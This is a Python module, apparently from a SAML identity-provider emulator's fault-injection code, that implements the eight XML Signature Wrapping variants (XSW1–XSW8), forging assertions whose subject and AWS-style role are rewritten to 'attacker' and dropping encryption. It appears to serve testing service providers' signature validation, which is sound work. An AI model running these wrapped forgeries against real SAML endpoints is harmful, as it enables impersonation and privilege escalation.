"""Signature wrapping: a forged assertion around, before or inside the signed one.

The eight variants of the SAML Raider tool: 1 and 2 wrap the Response, 3 to 8 the assertion. The latter break the
Response's own signature, so it is removed as an attacker would do: a valid signature over the wrong element is left. A
wrapped message is posted in plain text, whatever the app's settings for encryption are.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import replace
from functools import wraps

from lxml import etree

from emulator.kernel.errors import FederationError
from idp.saml.assertion import ASSERTION_NAMESPACE, PROTOCOL_NAMESPACE, SIGNATURE_NAMESPACE
from idp.saml.draft import Act, Draft, Fault
from idp.saml.fault_edits import xml_text

_SAML = f"{{{ASSERTION_NAMESPACE}}}"
_SAMLP = f"{{{PROTOCOL_NAMESPACE}}}"
_SIGNATURE = f"{{{SIGNATURE_NAMESPACE}}}Signature"
_FORGED_NAME = "attacker"


def wraps_response(arrange: Callable[[etree._Element, etree._Element], None]) -> Act:
    """Makes a fault from a function that puts the signed Response, without its signature, into a forged one."""

    @wraps(arrange)
    def act(draft: Draft, _: Fault) -> Draft:
        original = etree.fromstring(draft.xml.encode())
        forged = copy.deepcopy(original)
        forged.set("ID", "id00000000000000000000000000")
        assertion = _assertion_in(forged)
        forged.replace(assertion, _forged(assertion))
        signature = forged.find(_SIGNATURE)
        if signature is not None:
            _drop_signature(original)
            arrange(original, signature)
        return replace(draft, xml=xml_text(forged), encryption=None)

    return act


def wraps_assertion(arrange: Callable[[etree._Element, etree._Element, etree._Element], None]) -> Act:
    """Makes a fault from a function that puts a forged assertion beside the signed one, in an unsigned Response."""

    @wraps(arrange)
    def act(draft: Draft, _: Fault) -> Draft:
        response = etree.fromstring(draft.xml.encode())
        original = _assertion_in(response)
        forged = _forged(original)
        _drop_signature(response)
        arrange(response, original, forged)
        return replace(draft, xml=xml_text(response), encryption=None)

    return act


@wraps_response
def xsw1(original: etree._Element, signature: etree._Element) -> None:
    """The signed Response is inside the signature of a forged one."""
    signature.append(original)


@wraps_response
def xsw2(original: etree._Element, signature: etree._Element) -> None:
    """The signed Response is before the signature of a forged one."""
    signature.addprevious(original)


@wraps_assertion
def xsw3(response: etree._Element, original: etree._Element, forged: etree._Element) -> None:
    """The forged assertion comes before the signed one."""
    response.insert(response.index(original), forged)


@wraps_assertion
def xsw4(response: etree._Element, original: etree._Element, forged: etree._Element) -> None:
    """The signed assertion is inside the forged one."""
    response.replace(original, forged)
    forged.append(original)


@wraps_assertion
def xsw5(response: etree._Element, original: etree._Element, forged: etree._Element) -> None:
    """The forged assertion carries the signature, and the signed one follows it."""
    _move_signature(original, forged)
    response.replace(original, forged)
    response.append(original)


@wraps_assertion
def xsw6(response: etree._Element, original: etree._Element, forged: etree._Element) -> None:
    """The forged assertion carries the signature, which contains the signed one."""
    signature = _move_signature(original, forged)
    response.replace(original, forged)
    if signature is not None:
        signature.append(original)


@wraps_assertion
def xsw7(response: etree._Element, original: etree._Element, forged: etree._Element) -> None:
    """The forged assertion is in Extensions, before the signed one."""
    extensions = etree.Element(f"{_SAMLP}Extensions")
    extensions.append(forged)
    response.insert(response.index(original), extensions)


@wraps_assertion
def xsw8(response: etree._Element, original: etree._Element, forged: etree._Element) -> None:
    """The forged assertion carries the signature, which contains the signed one in an Object."""
    signature = _move_signature(original, forged)
    response.replace(original, forged)
    if signature is not None:
        etree.SubElement(signature, f"{{{SIGNATURE_NAMESPACE}}}Object").append(original)


def _assertion_in(response: etree._Element) -> etree._Element:
    assertion = response.find(f"{_SAML}Assertion")
    if assertion is None:
        raise FederationError("there is no assertion to wrap")
    return assertion


def _drop_signature(element: etree._Element) -> None:
    signature = element.find(_SIGNATURE)
    if signature is not None:
        element.remove(signature)


def _move_signature(original: etree._Element, forged: etree._Element) -> etree._Element | None:
    signature = original.find(_SIGNATURE)
    if signature is not None:
        forged.insert(1, signature)
    return signature


def _forged(assertion: etree._Element) -> etree._Element:
    forged = copy.deepcopy(assertion)
    forged.set("ID", "id11111111111111111111111111")
    _drop_signature(forged)
    name_id = forged.find(f"{_SAML}Subject/{_SAML}NameID")
    if name_id is not None:
        name_id.text = _FORGED_NAME
    for attribute in forged.iter(f"{_SAML}Attribute"):
        name = attribute.get("Name", "").rpartition("/")[2]
        for value in attribute:
            if name == "RoleSessionName":
                value.text = _FORGED_NAME
            elif name == "Role":
                value.text = f"{(value.text or '').rpartition('/')[0]}/{_FORGED_NAME}"
    return forged
